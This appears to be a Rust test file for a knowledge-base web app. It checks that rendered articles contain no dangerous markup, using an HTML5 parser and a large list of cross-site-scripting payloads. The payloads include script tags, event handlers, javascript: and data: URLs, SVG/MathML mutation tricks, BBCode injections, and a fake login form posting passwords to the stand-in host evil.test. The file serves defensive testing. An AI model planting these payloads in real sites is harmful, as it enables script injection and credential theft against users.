//! Articles that attack their readers. The pages are read by the parser that browsers' behaviour is written down in.

use html5ever::serialize::{SerializeOpts, TraversalScope, serialize};
use html5ever::tendril::TendrilSink;
use markup5ever_rcdom::{Handle, NodeData, RcDom, SerializableHandle};
use reqwest::Method;

use crate::support::TestApp;

/// Each is dangerous as it stands: the check finds it.
const HTML: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/xss src=\"http://evil.test/x.js\"></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x\"></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><desc><noscript></desc><style><img title=\"</style><img src=x onerror=alert(1)>\">",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" \u{1}javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=x onclick=alert(1)>x</a>",
    "<a href=\"x\" style=\"position:fixed;inset:0\">x</a>",
    "<area href=javascript:alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=http://evil.test/x.swf>",
    "<applet code=x></applet>",
    "<form action=http://evil.test><input name=password><button>Log in</button></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=http://evil.test/>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<style>@import 'http://evil.test/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><script>alert(1)</script>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\"></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--html--><img src=x onerror=alert(1)>",
    "<?xml version=\"1.0\"?><html><script xmlns=\"http://www.w3.org/1999/xhtml\">alert(1)</script></html>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "</div></main><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<b onmouseover=alert(1)>x</b>",
    "<x onclick=alert(1)>x</x>",
    "<keygen autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    "<img src=x onerror=alert(1) a='[b]x[/b]'>[url=javascript:alert(1)]x[/url]",
    "<a title=\"[img]x onerror=alert(1)[/img]\" href=javascript:alert(1)>x</a>",
];

/// These become dangerous when somebody converts, decodes or mends them without care.
const OTHERS: &[&str] = &[
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "[url=javascript:alert(1)]x[/url]",
    "[url=JAVASCRIPT:alert(1)]x[/url]",
    "[url= javascript:alert(1)]x[/url]",
    "[url=java\tscript:alert(1)]x[/url]",
    "[url=&#106;avascript:alert(1)]x[/url]",
    "[url=\"javascript:alert(1)\"]x[/url]",
    "[url]javascript:alert(1)[/url]",
    "[url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==]x[/url]",
    "[url=http://x.test/\" onmouseover=\"alert(1)]x[/url]",
    "[url=http://x.test/'onmouseover='alert(1)]x[/url]",
    "[url=http://x.test/><script >alert(1)</script >]x[/url]",
    "[url=http://[url=http://x.test onerror=alert(1)//]x[/url]]x[/url]",
    "[url=//x.test\" onclick=alert(1) x=\"]x[/url]",
    "[email]\"onclick=alert(1)//@x.test[/email]",
    "[email=a@x.test?\"><svg/onload=alert(1)>]x[/email]",
    "[img]javascript:alert(1)[/img]",
    "[img]x\" onerror=\"alert(1)[/img]",
    "[img]http://x.test/x\" onerror=\"alert(1)[/img]",
    "[img]/x'onerror='alert(1)[/img]",
    "[img=1 onerror=alert(1)]/x[/img]",
    "[img]http://x.test/[b]\" onerror=alert(1)[/b][/img]",
    "[img]data:image/svg+xml,%3Csvg onload=alert(1)%3E[/img]",
    "[quote=\"><img src=x onerror=alert(1)>]x[/quote]",
    "[quote=<script >alert(1)</script >]x[/quote]",
    "[code]</code></pre><zz onclick=alert(1)>[/code]",
    "[list=\" onclick=alert(1)][*]x[/list]",
    "[list][*]<zz[*]onclick=alert(1)>[/list]",
    "[size=\"1;background:url(javascript:alert(1))\"]x[/size]",
    "[color=red\" onclick=\"alert(1)]x[/color]",
    "[font=x;behavior:url(x)]x[/font]",
    "[b<zz onclick=alert(1)>]x[/b]",
    "<[b]script[/b]>alert(1)<[b]/script[/b]>",
    "<scr[b]ipt>alert(1)</scr[/b]ipt>",
    "[url=http://x.test]<[/url]zz onclick=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u{1}script>alert(1)</\u{1}script>",
    "\u{2028}<zz\u{2028}onclick=alert(1)>",
    "[video]javascript:alert(1)[/video]",
    "[html]<zz onclick=alert(1)>[/html]",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
];

/// Elements of the page's head.
const HEAD: &str = " html head meta title style body ";

/// Elements of the page and those that the body of an article may have.
const ELEMENTS: &str = " main h1 h2 h3 h4 h5 h6 p div ul ol li a b i u s img br pre \
    code blockquote cite sub sup span strong em table tbody thead tfoot tr td th hr center strike small big tt \
    details summary area map ";

/// Attributes that do nothing, whatever has them.
const ATTRIBUTES: &str = " lang alt title rel width height align ";

/// What is dangerous in this node and below it, which stands in the page's body or before it.
fn dangers(node: &Handle, mut in_body: bool, found: &mut Vec<String>) {
    if let NodeData::Element {
        name,
        attrs,
        template_contents,
        ..
    } = &node.data
    {
        let element = name.local.to_string();
        let known = if in_body { ELEMENTS } else { HEAD };
        let is_html = &*name.ns == "http://www.w3.org/1999/xhtml";
        if !is_html || !known.contains(&format!(" {element} ")) {
            found.push(format!("<{element}>"));
        }
        for attribute in attrs.borrow().iter() {
            if !is_allowed(&element, &attribute.name.local, &attribute.value) {
                let (name, value) = (&attribute.name.local, &attribute.value);
                found.push(format!("<{element} {name}={value}>"));
            }
        }
        if let Some(contents) = &*template_contents.borrow() {
            dangers(contents, in_body, found);
        }
        in_body |= element == "body";
    }
    for child in node.children.borrow().iter() {
        dangers(child, in_body, found);
    }
}

fn is_allowed(element: &str, attribute: &str, value: &str) -> bool {
    match attribute {
        "href" | "src" | "cite" => is_harmless(value),
        "charset" | "name" | "content" => element == "meta",
        "class" => matches!(element, "div" | "p"),
        _ => ATTRIBUTES.contains(&format!(" {attribute} ")),
    }
}

/// Whether an address leads to a page or to somebody's mailbox: read as a browser does, which sees no blanks and no
/// control characters in it.
fn is_harmless(address: &str) -> bool {
    let seen: String = address
        .chars()
        .filter(|c| !c.is_control() && !c.is_whitespace())
        .collect();
    match seen.split_once(':') {
        Some((scheme, _)) if !scheme.contains(['/', '?', '#']) => {
            ["http", "https", "mailto"].contains(&scheme.to_lowercase().as_str())
        }
        _ => true,
    }
}

fn parsed(html: &str) -> RcDom {
    html5ever::parse_document(RcDom::default(), html5ever::ParseOpts::default()).one(html)
}

/// The first element of this name.
fn element(node: &Handle, wanted: &str) -> Option<Handle> {
    if matches!(&node.data, NodeData::Element { name, .. } if &*name.local == wanted) {
        return Some(node.clone());
    }
    node.children
        .borrow()
        .iter()
        .find_map(|child| element(child, wanted))
}

/// Names of the elements right below this node.
fn children(node: &Handle) -> Vec<String> {
    let children = node.children.borrow();
    let names = children.iter().filter_map(|child| match &child.data {
        NodeData::Element { name, .. } => Some(name.local.to_string()),
        _ => None,
    });
    names.collect()
}

/// What is dangerous in a page.
fn found_in(html: &str) -> Vec<String> {
    let page = parsed(html);
    let mut found = vec![];
    dangers(&page.document, false, &mut found);
    // What a page becomes when a script reads its content and writes it back.
    let mut again = vec![];
    let options = SerializeOpts {
        traversal_scope: TraversalScope::ChildrenOnly(None),
        ..SerializeOpts::default()
    };
    let body = element(&page.document, "body").unwrap_or(page.document.clone());
    serialize(&mut again, &SerializableHandle::from(body), options).unwrap();
    let again = format!("<body>{}", String::from_utf8(again).unwrap());
    dangers(&parsed(&again).document, false, &mut found);
    found
}

#[test]
fn the_check_finds_what_is_dangerous() {
    let unnoticed = HTML
        .iter()
        .filter(|payload| found_in(&format!("<div class=\"body\">{payload}</div>")).is_empty());
    assert_eq!(unnoticed.collect::<Vec<_>>(), Vec::<&&str>::new());
    assert!(HTML.len() >= 60);
    assert_eq!(
        found_in("<p>1 &lt; 2 <a href=\"/x\">x</a> <img src=\"http://x.test/x\"></p>"),
        Vec::<String>::new()
    );
}

#[tokio::test]
async fn no_article_attacks_its_readers() {
    let app = TestApp::start().await;
    let admin = app.admin().await;
    for payload in HTML.iter().chain(OTHERS) {
        // A file's name as well; a subject is one line without control characters.
        let subject: String = payload.chars().filter(|c| !c.is_control()).collect();
        let call = admin
            .writes_an_article(&subject, payload)
            .file("f", &subject, "x");
        let id = call.await.is_ok().number();
        app.change("update categories set name = (select left(subject, 200) from articles where id = $1) where id = 1", id)
            .await;
        let page = admin
            .call(Method::GET, &format!("/KB/View/{id}-x"))
            .await
            .is_ok()
            .text();
        assert_eq!(found_in(&page), Vec::<String>::new(), "{payload}\n{page}");
        // Nothing has left its place, and nothing is lost but markup.
        let tree = parsed(&page);
        let main = element(&tree.document, "main").unwrap();
        assert_eq!(children(&main), ["h1", "p", "div", "h2", "ul"], "{payload}");
        assert_eq!(
            children(&element(&tree.document, "body").unwrap()),
            ["main"],
            "{payload}"
        );
        assert_eq!(
            children(&element(&tree.document, "head").unwrap()),
            ["meta", "meta", "title", "style"]
        );
    }
}

#[tokio::test]
async fn all_of_it_in_one_article_is_harmless_too() {
    let app = TestApp::start().await;
    let admin = app.admin().await;
    for glue in ["", "\n", "</div>", "[/b]", "<b>", "\">", "'>", "-->"] {
        for corpus in [HTML, OTHERS] {
            let id = admin
                .writes_an_article("s", &corpus.join(glue))
                .await
                .is_ok()
                .number();
            let page = admin
                .call(Method::GET, &format!("/KB/View/{id}"))
                .await
                .is_ok()
                .text();
            assert_eq!(found_in(&page), Vec::<String>::new(), "{glue}");
        }
    }
}
